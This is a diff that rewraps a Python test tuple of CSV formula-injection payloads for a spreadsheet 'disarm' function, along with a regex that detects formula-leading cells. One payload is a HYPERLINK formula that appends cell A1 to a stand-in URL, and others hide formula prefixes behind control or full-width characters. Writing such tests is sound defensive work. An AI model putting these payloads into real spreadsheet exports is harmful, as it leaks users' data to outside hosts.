@@ -16,8 +16,9 @@ from putt_posture.report.spreadsheet import disarm, frame_as_csv
 from putt_posture.values import absent
 
 FORMULAS = (
-    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", '"=1',
-    "'=1", '" =1', "＝1", "＋1", "－1", "＠1", "a;=1", "a\n=1", "a\t@x", 'a; "=1', "|=1", "\x00=1", "\ufeff=1", "-", "=",
+    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
+    '"=1', "'=1", '" =1', "＝1", "＋1", "－1", "＠1", "a;=1", "a\n=1", "a\t@x", 'a; "=1', "|=1",
+    "\x00=1", "\ufeff=1", "-", "=",
 )  # fmt: skip
 BEGINS = re.compile(r"(\A|[;|\t\r\n])[\s\"\x00-\x1f\ufeff]*[=+\-@＝＋－＠]")
 
